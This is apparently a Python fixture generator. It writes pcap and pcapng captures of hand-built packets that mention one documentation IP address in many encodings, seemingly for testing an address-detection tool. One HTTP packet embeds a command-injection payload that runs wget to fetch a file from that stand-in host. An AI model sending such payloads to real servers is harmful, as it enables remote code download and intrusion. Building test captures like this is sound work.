import struct,sys,socket,base64
def cs(b):
    if len(b)%2: b+=b'\0'
    s=sum(struct.unpack('!%dH'%(len(b)//2),b))
    while s>>16: s=(s&0xffff)+(s>>16)
    return ~s&0xffff
def ip4(src,dst,proto,body,opts=b'',ttl=64):
    ihl=5+len(opts)//4
    h=struct.pack('!BBHHHBBH4s4s',0x40|ihl,0,ihl*4+len(body),1,0,ttl,proto,0,socket.inet_aton(src),socket.inet_aton(dst))+opts
    return h[:10]+struct.pack('!H',cs(h))+h[12:]+body
def pseudo(src,dst,proto,n):
    if ':' in src: return socket.inet_pton(10,src)+socket.inet_pton(10,dst)+struct.pack('!IHBB',n,0,0,proto)
    return socket.inet_aton(src)+socket.inet_aton(dst)+struct.pack('!BBH',0,proto,n)
def tcp(src,dst,sp,dp,pay=b'',flags=0x18):
    h=struct.pack('!HHIIBBHHH',sp,dp,1,1,0x50,flags,1024,0,0)+pay
    c=cs(pseudo(src,dst,6,len(h))+h)
    return h[:16]+struct.pack('!H',c)+h[18:]
def udp(src,dst,sp,dp,pay=b''):
    h=struct.pack('!HHHH',sp,dp,8+len(pay),0)+pay
    c=cs(pseudo(src,dst,17,len(h))+h) or 0xffff
    return h[:6]+struct.pack('!H',c)+h[8:]
def icmp(t,c,body):
    h=struct.pack('!BBHI',t,c,0,0)+body
    return h[:2]+struct.pack('!H',cs(h))+h[4:]
def ip6(src,dst,nh,body):
    return struct.pack('!IHBB',0x60000000,len(body),nh,64)+socket.inet_pton(10,src)+socket.inet_pton(10,dst)+body
def icmp6(src,dst,t,c,body):
    h=struct.pack('!BBHI',t,c,0,0)+body
    return h[:2]+struct.pack('!H',cs(pseudo(src,dst,58,len(h))+h))+h[4:]
def eth(body,t=0x800): return b'\x00\x16\x3e\xaa\xbb\xcc\x00\x50\x56\x11\x22\x33'+struct.pack('!H',t)+body
A,B,D='203.0.113.5','198.51.100.20','192.0.2.77'
A6,D6='2001:db8:99::5','2001:db8:5::77'
def name(n): return b''.join(bytes([len(l)])+l.encode() for l in n.split('.'))+b'\0'
def packets():
    http=b'GET /shell?cd+/tmp;wget+http://192.0.2.77/x HTTP/1.1\r\nHost: 192.0.2.77\r\nReferer: http://3221226061/\r\nX: '+base64.b64encode(b'callback=192.0.2.77:80')+b'\r\nY: %31%39%32.0.2.77 0xC000024D decoy.example.net\r\n\r\n'
    sip=b'OPTIONS sip:100@192.0.2.77 SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.5:5060\r\nTo: <sip:100@192.0.2.77>\r\n\r\n'
    dns=struct.pack('!HHHHHH',1,0x0100,1,0,0,0)+name('77.2.0.192.in-addr.arpa')+struct.pack('!HH',12,1)
    ans=struct.pack('!HHHHHH',1,0x8180,1,1,0,0)+name('decoy.example.net')+struct.pack('!HH',1,1)+b'\xc0\x0c'+struct.pack('!HHIH',1,1,60,4)+socket.inet_aton(D)
    probe=udp(D,B,33333,53,b'hello')
    out=[]
    out.append(eth(ip4(A,D,6,tcp(A,D,40000,80,http))+b'\0'*3))
    out.append(eth(ip4(A,D,17,udp(A,D,5060,5060,sip))))
    out.append(eth(ip4(A,D,17,udp(A,D,4000,53,dns))))
    out.append(eth(ip4(A,D,17,udp(A,D,53,4000,ans))))
    out.append(eth(ip4(B,D,1,icmp(3,3,ip4(D,B,17,probe)))))
    out.append(eth(ip4(D,A,6,tcp(D,A,80,40000,b'HTTP/1.0 302\r\nLocation: http://192.0.2.77/\r\n\r\n'))))
    smb='\\\\192.0.2.77\\IPC$'.encode('utf-16le')
    out.append(eth(ip4(A,D,6,tcp(A,D,40001,445,smb))))
    out.append(eth(ip6(A6,D6,6,tcp(A6,D6,1,80,b'GET http://[2001:db8:5::77]/ HTTP/1.1\r\n\r\n')),0x86dd))
    out.append(eth(ip6(A6,D6,58,icmp6(A6,D6,1,4,ip6(D6,A6,17,udp(D6,A6,5,6,b'x'*9)))),0x86dd))
    rr=bytes([7,11,12])+socket.inet_aton(D)+socket.inet_aton(A)+b'\0'
    out.append(eth(ip4(A,D,1,icmp(8,0,b'ping'),opts=rr)))
    out.append(eth(struct.pack('!HHBBH6s4s6s4s',1,0x800,6,4,1,b'\0\x50\x56\x11\x22\x33',socket.inet_aton(A),b'\0'*6,socket.inet_aton(D)),0x806))
    socks=b'\x05\x01\x00\x01'+socket.inet_aton(D)+b'\x00\x50'
    out.append(eth(ip4(A,D,6,tcp(A,D,40002,1080,socks))))
    out.append(eth(ip4(A,B,4,ip4(A,D,17,udp(A,D,1,2,b'in')))))
    out.append(eth(b'\x02\x07\x04\x00\x50\x56\x11\x22\x33sw-192.0.2.1',0x88cc))
    return out
def pcap(path,order='<',magic=0xa1b2c3d4,link=1,cut=None):
    with open(path,'wb') as f:
        f.write(struct.pack(order+'IHHIIII',magic,2,4,0,0,262144,link))
        for i,p in enumerate(packets()):
            n=len(p) if not cut else min(len(p),cut)
            f.write(struct.pack(order+'IIII',1434000000+i,i*1000,n,len(p))+p[:n])
def pcapng(path,order='<'):
    def block(t,b):
        b+=b'\0'*(-len(b)%4); n=12+len(b)
        return struct.pack(order+'II',t,n)+b+struct.pack(order+'I',n)
    def opt(c,b): return struct.pack(order+'HH',c,len(b))+b+b'\0'*(-len(b)%4)
    end=struct.pack(order+'HH',0,0)
    with open(path,'wb') as f:
        f.write(block(0x0a0d0d0a,struct.pack(order+'IHHq',0x1a2b3c4d,1,0,-1)+opt(3,b'sensor 192.0.2.77')+end))
        f.write(block(1,struct.pack(order+'HHI',1,0,262144)+opt(2,b'eth0-192.0.2.77')+opt(9,b'\x09')+opt(11,b'\0host 192.0.2.77')+end))
        f.write(block(4,struct.pack(order+'HH',1,4+9)+socket.inet_aton(D)+b'decoy.ex\0'+b'\0'*3+struct.pack(order+'HH',0,0)))
        for i,p in enumerate(packets()):
            t=(1434000000+i)*10**9+i*1000
            f.write(block(6,struct.pack(order+'IIIII',0,t>>32,t&0xffffffff,len(p),len(p))+p+b'\0'*(-len(p)%4)+opt(1,b'seen at 192.0.2.77')+end))
        f.write(block(5,struct.pack(order+'III',0,0,0)+opt(1,b'done')+end))
if __name__=='__main__':
    d=sys.argv[1]
    pcap(d+'/in.pcap'); pcap(d+'/big.pcap','>',0xa1b23c4d); pcap(d+'/cut.pcap',cut=60)
    pcapng(d+'/in.pcapng'); pcapng(d+'/big.pcapng','>')
